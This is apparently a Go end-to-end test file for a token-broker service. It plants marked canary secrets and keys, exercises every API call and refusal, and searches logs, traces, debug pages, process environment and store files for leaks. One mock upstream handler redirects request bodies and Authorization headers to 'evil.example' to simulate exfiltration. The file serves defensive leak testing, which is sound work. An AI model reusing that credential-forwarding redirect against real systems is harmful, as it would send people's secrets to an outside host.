package e2e_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/go-jose/go-jose/v4"
	"google.golang.org/grpc"
	"google.golang.org/protobuf/types/known/fieldmaskpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/tokenbroker/tokenbroker/internal/authserver"
	"github.com/tokenbroker/tokenbroker/internal/secret"
	pb "github.com/tokenbroker/tokenbroker/proto/tokenbroker/v1"
	"github.com/tokenbroker/tokenbroker/test/realvault"
)

// canaries makes marked secrets and remembers each.
type canaries struct {
	t       *testing.T
	scanner *scanner
	made    int
}

// secret returns a new client secret with what naive encodings break.
func (c *canaries) secret() string {
	c.made++
	value := fmt.Sprintf("cAnArY-%d-%s+/=%%: ~%s", c.made, rand.Text(), rand.Text())
	c.scanner.add(fmt.Sprintf("client secret %d", c.made), []byte(value))
	return value
}

// key returns a new private key whose every secret part is looked for.
func (c *canaries) key(algorithm string) signingKey {
	c.made++
	k := newKey(c.t, algorithm)
	what := fmt.Sprintf("%s key %d", algorithm, c.made)
	var parts [][]byte
	switch private := k.private.(type) {
	case *rsa.PrivateKey:
		parts = [][]byte{private.D.Bytes(), private.Primes[0].Bytes(), private.Primes[1].Bytes()}
	case *ecdsa.PrivateKey:
		d, err := private.Bytes()
		if err != nil {
			c.t.Fatal(err)
		}
		parts = [][]byte{d}
	case ed25519.PrivateKey:
		parts = [][]byte{private.Seed()}
	}
	for _, part := range parts {
		c.scanner.addPieces(what, part)
	}
	block, _ := pem.Decode([]byte(k.pem))
	// The armour's text, from where the head that all such keys share is over.
	body := base64.StdEncoding.EncodeToString(block.Bytes)
	c.scanner.addPieces(what+", text of the PEM", []byte(body[64:]))
	return k
}

// canarySite is a deployment whose secrets are all marked.
type canarySite struct {
	*canaries
	*node
	site  *site
	up    *upstream
	ctx   context.Context
	users *marked
	// spans are those of everything that the server does; hooks what its webhook was told.
	spans *collector
	hooks *receiver
}

// must ends the test unless a call has gone well.
func must[T any](answer T, err error) func(t *testing.T) T {
	return func(t *testing.T) T {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return answer
	}
}

// wander goes through every method and every kind of refusal.
func (c *canarySite) wander() {
	first, second, third := c.secret(), c.secret(), c.secret()
	for _, value := range []string{first, second, third} {
		if err := c.up.AddSecret(appID, secret.NewString(value)); err != nil {
			c.t.Fatal(err)
		}
	}
	const name = "clients/canary"
	client := newClient("canary", c.up.TokenEndpoint())
	client.AllowedScopes = []string{"write"}
	o := c.operator
	must(o.clients.CreateClient(c.ctx, &pb.CreateClientRequest{Client: client, Secret: secretInput(first), RequestId: "1"}))(c.t)
	must(c.caller.tokens.GetToken(c.ctx, &pb.GetTokenRequest{Client: name}))(c.t)
	must(o.rotations.StageSecret(c.ctx, &pb.StageSecretRequest{Client: name, Secret: secretInput(second), RequestId: "2"}))(c.t)
	must(o.rotations.VerifySecret(c.ctx, &pb.VerifySecretRequest{Client: name}))(c.t)
	must(o.rotations.PromoteSecret(c.ctx, &pb.PromoteSecretRequest{Client: name, DropTokens: true}))(c.t)
	must(o.rotations.RetireSecret(c.ctx, &pb.RetireSecretRequest{Client: name, SecretVersion: 1}))(c.t)
	must(c.caller.tokens.GetToken(c.ctx, &pb.GetTokenRequest{Client: name, Scopes: []string{"write"}}))(c.t)
	client.Labels = map[string]string{"a": "b"}
	must(o.clients.UpdateClient(c.ctx, &pb.UpdateClientRequest{Client: client, UpdateMask: &fieldmaskpb.FieldMask{Paths: []string{"labels"}}, Secret: secretInput(third)}))(c.t)
	must(o.clients.DisableClient(c.ctx, &pb.DisableClientRequest{Name: name}))(c.t)
	must(o.clients.EnableClient(c.ctx, &pb.EnableClientRequest{Name: name}))(c.t)
	must(o.clients.DeleteClient(c.ctx, &pb.DeleteClientRequest{Name: name}))(c.t)
	must(o.clients.UndeleteClient(c.ctx, &pb.UndeleteClientRequest{Name: name}))(c.t)
	gone := must(o.clients.CreateClient(c.ctx, &pb.CreateClientRequest{Client: newClient("gone", c.up.TokenEndpoint()), Secret: secretInput(first)}))(c.t)
	must(o.clients.DeleteClient(c.ctx, &pb.DeleteClientRequest{Name: "clients/gone"}))(c.t)
	must(o.clients.PurgeClient(c.ctx, &pb.PurgeClientRequest{Name: "clients/gone", Confirm: gone.GetClient().GetUid()}))(c.t)
	c.keys()
	c.turn()
	c.grants()
	c.refusals(name, third)
	must(o.clients.GetClient(c.ctx, &pb.GetClientRequest{Name: name}))(c.t)
	must(o.clients.ListClients(c.ctx, &pb.ListClientsRequest{}))(c.t)
	must(o.rotations.ListSecretVersions(c.ctx, &pb.ListSecretVersionsRequest{Client: name}))(c.t)
	must(o.diagnostics.CheckLookup(c.ctx, &pb.CheckLookupRequest{Client: name}))(c.t)
}

// keys registers a client for each kind of key and form, and gets its token.
func (c *canarySite) keys() {
	for _, algorithm := range []string{"RS256", "ES256", "EdDSA"} {
		for _, form := range []string{"pem", "jwk"} {
			key := c.key(algorithm)
			id := strings.ToLower(form + "-" + algorithm)
			if err := c.up.AddClient(authserver.Client{ID: id, Keys: []jose.JSONWebKey{key.public}, Scopes: []string{"read"}}); err != nil {
				c.t.Fatal(err)
			}
			client := newClient(id, c.up.TokenEndpoint())
			client.ClientId, client.AuthenticationMethod = id, keyJWT
			input := keyInput(key.pem)
			if form == "jwk" {
				input = keyInput(key.jwk)
			}
			must(c.operator.clients.CreateClient(c.ctx, &pb.CreateClientRequest{Client: client, Secret: input}))(c.t)
			must(c.caller.tokens.GetToken(c.ctx, &pb.GetTokenRequest{Client: "clients/" + id}))(c.t)
			must(c.operator.diagnostics.CheckLookup(c.ctx, &pb.CheckLookupRequest{Client: "clients/" + id}))(c.t)
		}
	}
}

// refusals sends marked secrets in every way in which they are refused.
func (c *canarySite) refusals(name, current string) {
	refused := func(what string, err error) {
		c.t.Helper()
		if err == nil {
			c.t.Errorf("%s was not refused", what)
		}
	}
	stage := func(what string, input *pb.SecretInput) {
		c.t.Helper()
		_, err := c.operator.rotations.StageSecret(c.ctx, &pb.StageSecretRequest{Client: name, Secret: input})
		refused(what, err)
	}
	key := c.key("RS256")
	stage("the current secret again", secretInput(current))
	stage("a key where a secret belongs", secretInput(key.pem))
	stage("a JWK where a secret belongs", keyInput(key.jwk))
	stage("a secret with a line break", secretInput(c.secret()+"\n"))
	stage("a secret with a NUL", secretInput(c.secret()+"\x00"))
	stage("a secret that is too long", secretInput(strings.Repeat(c.secret(), 3000)))
	stage("an expiry that is none", &pb.SecretInput{Value: secretInput(c.secret()).GetValue(), ExpireTime: &timestamppb.Timestamp{Nanos: -1}})
	broken := map[string]string{
		"a client secret": c.secret(), "half a PEM": key.pem[:len(key.pem)/2], "a PEM without line breaks": strings.ReplaceAll(key.pem, "\n", `\n`),
		"half a JWK": key.jwk[:len(key.jwk)/2], "a JWK of the wrong type": strings.Replace(key.jwk, `"RSA"`, `"EC"`, 1),
		"a JWK with a wrong part": strings.Replace(key.jwk, `"d":"`, `"d":"zz`, 1), "a set of JWKs": `{"keys":[` + key.jwk + `]}`,
		"a PEM of the wrong kind": strings.ReplaceAll(key.pem, "PRIVATE KEY", "RSA PRIVATE KEY"), "two keys": key.pem + c.key("ES256").pem,
	}
	for what, value := range broken {
		client := newClient("refused", c.up.TokenEndpoint())
		client.AuthenticationMethod = keyJWT
		_, err := c.operator.clients.CreateClient(c.ctx, &pb.CreateClientRequest{Client: client, Secret: keyInput(value)})
		refused(what, err)
	}
	// A caller's secrets are not read at all, an unreadable message not shown.
	_, err := c.caller.rotations.StageSecret(c.ctx, &pb.StageSecretRequest{Client: name, Secret: secretInput(c.secret())})
	refused("a caller", err)
	_, err = c.operator.rotations.StageSecret(c.ctx, &pb.StageSecretRequest{Client: "clients/nobody", Secret: secretInput(c.secret())})
	refused("an unknown client", err)
	garbage := "\x0a\x07clients\x12\xff\xff" + c.secret()
	refused("garbage", c.operator.conn.Invoke(c.ctx, pb.RotationService_StageSecret_FullMethodName, &garbage, &pb.StageSecretResponse{}, grpc.ForceCodec(rawCodec{})))

	// Endpoints that give away what they were sent, and a secret that is wrong.
	for _, path := range []string{"/echo", "/echo-redirect", "/echo-token", "/token"} {
		client := newClient("echo"+strings.ReplaceAll(path, "/", "-"), c.up.origin+path)
		must(c.operator.clients.CreateClient(c.ctx, &pb.CreateClientRequest{Client: client, Secret: secretInput(c.secret())}))(c.t)
		_, err := c.operator.tokens.GetToken(c.ctx, &pb.GetTokenRequest{Client: client.GetName()})
		refused(path, err)
		must(c.operator.rotations.StageSecret(c.ctx, &pb.StageSecretRequest{Client: client.GetName(), Secret: secretInput(c.secret())}))(c.t)
		_, err = c.operator.rotations.VerifySecret(c.ctx, &pb.VerifySecretRequest{Client: client.GetName()})
		refused("the verification at "+path, err)
	}
}

// rawCodec sends bytes as they are and reads nothing.
type rawCodec struct{}

// Marshal implements encoding.Codec.
func (rawCodec) Marshal(v any) ([]byte, error) { return []byte(*v.(*string)), nil }

// Unmarshal implements encoding.Codec.
func (rawCodec) Unmarshal([]byte, any) error { return nil }

// Name implements encoding.Codec.
func (rawCodec) Name() string { return "proto" }

// newCanarySite starts a server over a store with nothing but marked secrets, which
// takes wrapping tokens of the paths.
func newCanarySite(t *testing.T, store map[string]any, wrapping ...string) *canarySite {
	t.Helper()
	up := newUpstream(t)
	up.mux.HandleFunc("/echo", echo)
	up.mux.HandleFunc("/echo-redirect", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		w.Header().Set("Location", "https://evil.example/?"+string(body)+r.Header.Get("Authorization"))
		w.WriteHeader(http.StatusTemporaryRedirect)
	})
	up.mux.HandleFunc("/echo-token", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"access_token":"x","token_type":%q}`, r.Header.Get("Authorization")+r.PostFormValue("assertion"))
	})
	marks := &canaries{t: t, scanner: newScanner()}
	users := marks.users(up)
	s, spans := newSite(t, store, up.ca, users.ca), newCollector(t)
	s.addProfiles(t, up.origin, map[string]string{"showing": showing})
	s.config["authorization"] = map[string]any{"callback_url": users.callback(), "callback_listen": users.callbackAt}
	s.config["tracing"] = spans.config()
	if len(wrapping) > 0 {
		s.config["secrets"] = map[string]any{"wrapping": map[string]any{"creation_paths": wrapping}}
	}
	hooks := newReceiver(t, s)
	return &canarySite{
		spans: spans, hooks: hooks,
		canaries: marks, users: users, site: s, up: up,
		node: s.start(t, program(t)), ctx: t.Context(),
	}
}

// search looks everywhere: into what the process printed and answered, into its
// arguments and environment, and into folders. Tokens may be in GetToken's answers.
func (c *canarySite) search(folders ...string) {
	tokens, credentials := c.up.seen()
	if len(tokens) < 9 || len(credentials) < 9 {
		c.t.Errorf("only %d tokens and %d credentials passed: the search would prove little", len(tokens), len(credentials))
	}
	for _, credential := range credentials {
		value := credential[strings.LastIndexByte(credential, ' ')+1:] // what follows "Basic" and "Bearer"
		if strings.HasPrefix(value, "ey") {
			value = signatureOf(value)
		}
		c.scanner.addPieces("a credential as sent", []byte(value))
	}
	states := newScanner()
	for _, state := range c.users.states {
		states.add("state of a consent", []byte(state))
	}
	tokens = append(tokens, c.passedFront()...)
	issued := newScanner()
	for i, token := range tokens {
		issued.addPieces(fmt.Sprintf("access token %d", i), []byte(signatureOf(token)))
	}
	report := func(where string, found []string) {
		for _, f := range found[:min(len(found), 5)] {
			c.t.Errorf("%s: %s", where, f)
		}
	}
	for _, event := range []string{"rotation_failed", "rotation_rolled_back", "rotation_completed"} {
		if !strings.Contains(c.hooks.heard(), event) {
			c.t.Errorf("the webhook was told nothing of %s", event)
		}
	}
	given, log, heard := c.site.given.String(), c.log.String(), c.site.heard.String()+c.hooks.heard()
	report("GetToken's answers", c.scanner.scan([]byte(given)))
	report("the log", states.scan([]byte(log)))
	if len(issued.scan([]byte(given))) == 0 {
		c.t.Error("no token in GetToken's answers")
	}
	for _, s := range []*scanner{c.scanner, issued} {
		report("the log", s.scan([]byte(log)))
		report("the answers", s.scan([]byte(heard)))
	}
	for _, text := range []string{"PRIVATE KEY", "hvs.", "cAnArY"} {
		if strings.Contains(log, text) || strings.Contains(heard, text) {
			c.t.Errorf("the log or an answer has %q", text)
		}
	}
	for _, s := range []*scanner{c.scanner, issued} {
		report("the spans", s.scan(c.spans.all(c.t, 100)))
		for _, path := range []string{"/metrics", "/debug/pprof/goroutine?debug=2", "/debug/pprof/heap?debug=1"} {
			report(path, s.scan(c.page(c.t, path)))
		}
	}
	for _, name := range []string{"cmdline", "environ"} {
		content, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", c.pid(), name))
		if err != nil {
			c.t.Logf("not searched: %v", err)
			continue
		}
		report(name, append(c.scanner.scan(content), issued.scan(content)...))
	}
	for _, folder := range append(folders, c.site.dir) {
		for what, s := range map[string]*scanner{"secrets": c.scanner, "tokens": issued} {
			found, size, err := s.scanFolder(folder)
			if err != nil {
				c.t.Error(err)
			}
			report(folder, found)
			c.t.Logf("searched %d KiB of %s for %s", size>>10, folder, what)
		}
	}
	c.t.Logf("%d marked secrets and keys, %d tokens, %d credentials", c.made, len(tokens), len(credentials))
}

// signatureOf is the part of a JWT that tells nothing of what is in others.
func signatureOf(jwt string) string { return jwt[strings.LastIndexByte(jwt, '.')+1:] }

// TestCanariesWithVault goes through everything over a real Vault, then has the
// store fail while secrets are on their way.
func TestCanariesWithVault(t *testing.T) {
	t.Parallel()
	store := ownStore(t, realvault.WithTLS())
	others := store.NewKV()
	c := newCanarySite(t, store.config(store.Addr()), others+"/data/oauth/*")
	c.scanner.add("the AppRole's secret id", []byte(store.secretID))
	c.wander()
	c.unwraps(store, others)
	journals := store.journals()
	if !strings.Contains(journals, `"state":"completed"`) {
		t.Error("no journal of a rotation in the store")
	}
	for _, found := range c.scanner.scan([]byte(journals)) {
		t.Errorf("the records: %s", found)
	}
	store.PutPolicy(store.role, strings.ReplaceAll(store.policy, `"create", `, ""))
	stage := func(want string) {
		_, err := c.operator.rotations.StageSecret(c.ctx, &pb.StageSecretRequest{Client: "clients/canary", Secret: secretInput(c.secret())})
		wantReason(t, "StageSecret", err, want)
	}
	stage("STORE_PERMISSION_DENIED")
	store.Seal()
	stage("STORE_SEALED")
	store.Stop()
	stage("STORE_UNREACHABLE")
	c.search(filepath.Dir(store.AuditLog())) // Raft's files and the audit log
	c.stop(t)
	if content := auditLog(t, store); !strings.Contains(content, "hmac-sha256:") || !strings.Contains(content, "secrets/canary/") {
		t.Error("the audit log has no write of a secret")
	}
}

// TestCanariesWithEmbeddedStore goes through everything over the store in one file.
func TestCanariesWithEmbeddedStore(t *testing.T) {
	t.Parallel()
	needServers(t)
	dir := t.TempDir()
	c := newCanarySite(t, embeddedStore(dir))
	c.wander()
	c.search(dir)
	before := folderOf(t, c.site.dir)
	c.Kill() // what a crash leaves behind
	c.node = c.site.start(t, program(t))
	if _, err := c.token(c.ctx, "clients/canary"); err != nil {
		t.Errorf("after a crash: %v", err)
	}
	c.search(dir)
	c.stop(t)
	if after := folderOf(t, c.site.dir); !slices.Equal(before, after) {
		t.Errorf("temporary files: %q, before %q", after, before)
	}
	if got, want := folderOf(t, dir), []string{"store.db", "store.key"}; !slices.Equal(got, want) {
		t.Errorf("the store's folder has %q, want %q", got, want)
	}
	for _, name := range []string{"store.db", "store.key"} {
		if info, err := os.Stat(filepath.Join(dir, name)); err != nil || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, %v; want 0600", name, info.Mode(), err)
		}
	}
}
